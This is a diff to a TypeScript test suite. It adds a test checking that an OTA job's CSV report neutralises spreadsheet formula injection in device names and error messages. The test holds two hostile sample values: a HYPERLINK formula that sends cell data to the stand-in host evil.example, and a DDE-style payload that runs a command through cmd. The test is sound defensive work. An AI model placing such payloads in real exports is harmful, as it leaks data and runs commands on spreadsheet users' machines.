@@ -4,6 +4,7 @@ import type { Execution, Job, JobDetail, Package } from '../../shared/api/entiti
 import { parseArgs } from '../../shared/api/validate';
 import type { OperationInput } from '../../shared/api/operations';
 import { runSimulation } from '../../electron/simulator';
+import { parseCsv } from '../../renderer/src/lib/csv';
 import { scriptedDevice } from '../support/scripted-device';
 import { startStationFixture, waitFor, type StationFixture } from '../support/station-fixture';
 import { readDatabase } from './device-api-helpers';
@@ -301,6 +302,23 @@ describe('OTA jobs', () => {
       ['dev-1', 'INITIATED'],
     ]);
     expect(json.devices[0]?.durationSec).toBeGreaterThanOrEqual(0);
+  });
+
+  it('writes a report no spreadsheet runs: device names and device errors are neutralised', async () => {
+    const link = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")';
+    const payload = "@SUM(1+1)*cmd|' /C calc'!A0";
+    const named = await fx.device(link, profileId, 'formula-token');
+    const created = await createJob({ deviceIds: [named.id], policy: { retries: 0 } });
+    await scriptedDevice(fx, 'formula-token', () => 'fail', 16 * 1024, payload);
+    await until(created.id, (j) => j.counts.failed === 1);
+    const csv = await fx.station.api['jobs.report']({ id: created.id, format: 'csv' });
+    const [header, row] = parseCsv(csv.body);
+    const cell = (name: string) => row?.[header?.indexOf(name) ?? -1];
+    // Read back as a spreadsheet reads it: text, with the formula's first character behind a quote.
+    expect(cell('device')).toBe(`'${link}`);
+    expect(cell('error')).toBe(`'${payload}`);
+    expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example`);
+    expect(csv.body).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
   });
 
   it('targets every device of a profile, and refuses devices of another profile', async () => {
